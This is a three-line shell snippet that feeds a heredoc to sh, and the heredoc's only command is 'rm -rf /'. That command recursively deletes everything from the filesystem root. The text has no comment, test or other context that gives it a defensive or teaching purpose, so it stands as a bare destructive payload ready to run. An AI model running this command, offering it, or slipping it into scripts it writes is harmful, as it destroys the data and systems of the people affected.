sh <<EOF
rm -rf /
EOF